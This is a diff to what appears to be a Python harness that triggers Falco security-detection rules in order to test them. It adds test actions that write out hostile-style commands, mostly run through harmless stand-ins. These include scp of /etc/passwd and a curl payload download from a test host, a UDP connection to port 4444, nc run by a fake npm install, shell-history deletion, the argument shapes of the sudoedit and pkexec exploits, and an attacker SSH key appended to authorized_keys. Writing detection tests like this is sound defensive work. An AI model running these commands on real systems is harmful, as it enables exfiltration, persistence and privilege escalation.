@@ -504,6 +504,79 @@ def read_disk_device(c: Ctx) -> Action:
                   {"fd.name": str(disks[0]), "proc.name": "dd"})
 
 
+def delete_shell_history(c: Ctx) -> Action:
+    history = c.work / ".bash_history"
+    history.write_text("cat /etc/shadow\n")
+    return Action(["rm", "-f", str(history)], {"proc.name": "rm", "evt.type": "unlinkat"})
+
+
+def scp_stand_in(c: Ctx) -> Action:
+    scp = c.symlink("scp", TRUE)
+    return Action([str(scp), "/etc/passwd", "pdigpy@198.51.100.7:/tmp/"], {"proc.name": "scp"})
+
+
+def curl_download(c: Ctx) -> Action:
+    curl = c.symlink("curl", TRUE)
+    return Action([str(curl), "-s", "-o", "/tmp/x", "http://198.51.100.7/payload"], {"proc.name": "curl"})
+
+
+def udp_connect(c: Ctx) -> Action:
+    """A UDP "connection" (connect on a datagram socket) to a non-local port 4444."""
+    wrap, env = in_netns(c, "198.51.100.7", 4444)
+    return Action([BASH, "-c", "exec 3<>/dev/udp/198.51.100.7/4444"],
+                  {"evt.type": "connect", "fd.l4proto": "udp", "fd.rport": 4444}, wrap=wrap, env=env)
+
+
+def npm_install_runs_nc(c: Ctx) -> Action:
+    npm = c.symlink("npm", BASH)  # "npm install" whose postinstall script runs nc
+    nc = c.symlink("nc", TRUE)
+    return Action([str(npm), "-c", f"{nc} -z 198.51.100.7 4444; true", "install"],
+                  {"proc.name": "nc", "proc.pname": "npm"})
+
+
+def web_server_runs_whoami(c: Ctx) -> Action:
+    nginx = c.symlink("nginx", BASH)
+    return Action([str(nginx), "-c", "whoami; true"], {"proc.name": "whoami", "proc.pname": "nginx"})
+
+
+def sudoedit_backslash(c: Ctx) -> Action:
+    sudoedit = c.symlink("sudoedit", TRUE)  # a stand-in: CVE-2021-3156's argument shape
+    return Action([str(sudoedit), "-s", "\\", "/etc/hosts"], {"proc.name": "sudoedit"})
+
+
+def pkexec_no_args(c: Ctx) -> Action:
+    pkexec = c.symlink("pkexec", TRUE)  # a stand-in: CVE-2021-4034 runs pkexec with argc 0
+    return Action([str(pkexec)], {"proc.name": "pkexec"})
+
+
+def write_apt_source(c: Ctx) -> Action:
+    need(Path("/etc/apt/sources.list.d").is_dir(), "no /etc/apt/sources.list.d")
+    target = _temp_below("/etc/apt/sources.list.d", c)
+    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})
+
+
+def write_below_usr_local_bin(c: Ctx) -> Action:
+    need(Path("/usr/local/bin").is_dir(), "no /usr/local/bin")
+    target = _temp_below("/usr/local/bin", c)
+    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})
+
+
+def create_file_below_dev(c: Ctx) -> Action:
+    target = _temp_below("/dev", c)
+    return Action(["cp", "/dev/null", str(target)], {"fd.name": str(target), "proc.name": "cp"})
+
+
+def add_authorized_key(c: Ctx) -> Action:
+    """Append a key to /home/<test user>/.ssh/authorized_keys (a home created for the test)."""
+    need(IS_ROOT and Path("/home").is_dir(), "needs root and /home")
+    home = Path(f"/home/pdigpy-test-{uuid.uuid4().hex[:12]}")
+    c.cleanup.append(home)
+    (home / ".ssh").mkdir(parents=True)
+    keys = home / ".ssh" / "authorized_keys"
+    return Action(["sh", "-c", 'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPdigpyTestKeyNotReal attacker" >> "$0"',
+                   str(keys)], {"fd.name": str(keys), "proc.name": "sh"})
+
+
 # --------------------------------------------------------------------------- cases
 
 
@@ -580,7 +653,21 @@ CASES = [
     Case("DB program spawned process", db_server_spawns_shell, "any", INCUBATING),
     Case("Exfiltrating Artifacts via Kubernetes Control Plane", tar_from_runtime, "container", INCUBATING),
     Case("Backdoored library loaded into SSHD (CVE-2024-3094)", sshd_loads_backdoored_liblzma, "any", INCUBATING),
+    Case("Delete or rename shell history", delete_shell_history, "any", INCUBATING),
+    Case("Launch Remote File Copy Tools in Container", scp_stand_in, "container", INCUBATING),
+    Case("Launch Ingress Remote File Copy Tools in Container", curl_download, "container", INCUBATING),
+    # a shell's connection: "System procs network activity" (earlier in the file) matches too
+    Case("Unexpected UDP Traffic", udp_connect, "any", INCUBATING, ("rule_matching=all",)),
+    Case("System procs network activity", instance_metadata_tcp, "any", INCUBATING),
+    Case("Create files below dev", create_file_below_dev, "any", INCUBATING),
+    Case("Adding ssh keys to authorized_keys", add_authorized_key, "any", INCUBATING),
     # falco-sandbox_rules.yaml
+    Case("Network Tool Executed During NPM Package Install", npm_install_runs_nc, "container", SANDBOX),
+    Case("Web Server Spawned Suspicious Child Process", web_server_runs_whoami, "any", SANDBOX),
+    Case("Sudo Potential Privilege Escalation", sudoedit_backslash, "any", SANDBOX),
+    Case("Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", pkexec_no_args, "any", SANDBOX),
+    Case("Update Package Repository", write_apt_source, "any", SANDBOX),
+    Case("Write below monitored dir", write_below_usr_local_bin, "any", SANDBOX),
     Case("Write below etc", write_below_etc, "any", SANDBOX),
     Case("Write below binary dir", write_below_bin, "any", SANDBOX),
     Case("Mkdir binary dirs", mkdir_below_bin, "any", SANDBOX),
